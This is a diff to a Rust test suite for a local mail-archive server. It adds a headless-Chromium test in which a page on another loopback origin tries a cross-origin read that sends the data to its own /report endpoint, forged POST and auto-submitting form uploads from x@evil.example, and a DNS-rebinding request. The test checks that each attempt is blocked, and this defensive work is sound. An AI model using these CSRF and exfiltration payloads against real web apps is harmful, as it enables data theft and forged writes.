@@ -24,9 +24,14 @@ async fn record(State(log): State<Log>, req: Request, next: Next) -> Response {
 
 /// Serves `router` on 127.0.0.1 with a free port, logging every request's path and query.
 async fn serve(router: Router) -> (String, Log) {
+    serve_on("127.0.0.1", router).await
+}
+
+/// As [`serve`], on another loopback address (a different origin and site to the browser).
+async fn serve_on(ip: &str, router: Router) -> (String, Log) {
     let log: Log = Arc::default();
     let router = router.layer(middleware::from_fn_with_state(log.clone(), record));
-    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let listener = TcpListener::bind((ip, 0)).await.expect("bind");
     let addr = listener.local_addr().expect("addr");
     tokio::spawn(async move {
         let _ = axum::serve(listener, router).await;
@@ -65,8 +70,14 @@ fn chromium() -> PathBuf {
 
 /// Loads `url` in a fresh headless Chromium, lets it settle, and returns the DOM it ended with.
 async fn load(url: &str) -> String {
+    load_with(url, &[]).await
+}
+
+/// As [`load`], with more command-line switches for Chromium.
+async fn load_with(url: &str, extra: &[&str]) -> String {
     let browser = chromium();
     let url = url.to_string();
+    let extra: Vec<String> = extra.iter().map(|s| s.to_string()).collect();
     tokio::task::spawn_blocking(move || {
         let profile = tempfile::tempdir().expect("profile dir");
         let out = Command::new("timeout")
@@ -87,6 +98,7 @@ async fn load(url: &str) -> String {
                 "--window-size=1200,2000",
             ])
             .arg(format!("--user-data-dir={}", profile.path().display()))
+            .args(&extra)
             .arg("--dump-dom")
             .arg(&url)
             .output()
@@ -230,4 +242,55 @@ async fn remote_content_loads_when_asked() {
     let got = requested(&remote_log);
     assert!(got.iter().any(|g| g == "/allowed-when-asked.png"), "the remote image loaded when asked: {got:#?}");
     assert!(!got.iter().any(|g| g.contains("script-ran")), "still nothing runs: {got:#?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn another_site_can_neither_read_nor_write() {
+    let app = TestApp::new(&[repo_path("samples")]);
+    let before = app.archive.index().listed_count();
+    let (base, mailshelf_log) = serve(app.router.clone()).await;
+    let port = base.rsplit(':').next().expect("port").to_string();
+    // The attacker: a page on another loopback address (another origin and site) that tries to read
+    // the API and to post an upload with a form, then reports what it could see.
+    let attack = format!(
+        r#"<!doctype html><body>
+<script>
+fetch("{base}/api/messages").then(r => r.text())
+  .then(t => fetch("/report?read=" + encodeURIComponent(t.slice(0, 40))))
+  .catch(() => fetch("/report?read-failed"));
+fetch("{base}/api/messages", {{method: "POST", mode: "no-cors", headers: {{"content-type": "text/plain"}},
+  body: "From: x@evil.example\r\nSubject: planted by fetch\r\n\r\nx"}})
+  .then(() => fetch("/report?fetch-posted"));
+</script>
+<iframe name="sink"></iframe>
+<form id="f" method="post" enctype="multipart/form-data" action="{base}/api/messages" target="sink">
+<textarea name="file">From: x@evil.example
+Subject: planted by form
+
+x</textarea></form>
+<script>document.getElementById("f").submit()</script>
+</body>"#
+    );
+    let attacker = Router::new()
+        .route("/attack.html", axum::routing::get(move || async move { axum::response::Html(attack.clone()) }))
+        .fallback(|| async { "ok" });
+    let (evil, evil_log) = serve_on("127.0.0.2", attacker).await;
+    load(&format!("{evil}/attack.html")).await;
+    let reports = requested(&evil_log);
+    assert!(reports.iter().any(|r| r == "/report?read-failed"), "the read was blocked: {reports:#?}");
+    assert!(!reports.iter().any(|r| r.starts_with("/report?read=")), "nothing was read: {reports:#?}");
+    let posts = requested(&mailshelf_log).into_iter().filter(|r| r == "/api/messages").count();
+    assert!(posts >= 2, "both writes reached the server, so their refusal is what is tested: {posts}");
+    assert_eq!(app.archive.index().listed_count(), before, "nothing was planted");
+    let planted = app.json("/api/messages?q=planted").await;
+    assert_eq!(planted["total"], 0, "{planted}");
+
+    // DNS rebinding: a name of the attacker's that resolves to 127.0.0.1 reaches the server, and
+    // is answered with 421 and nothing else.
+    let rule = "--host-resolver-rules=MAP rebind.example 127.0.0.1";
+    for path in ["/api/messages", "/"] {
+        let page = load_with(&format!("http://rebind.example:{port}{path}"), &[rule]).await;
+        assert!(page.contains("Misdirected request") && page.contains("--allowed-host"), "{path}: {page}");
+        assert!(!page.contains("Nouveaut") && !page.contains("newsletter"), "nothing of the archive: {page}");
+    }
 }
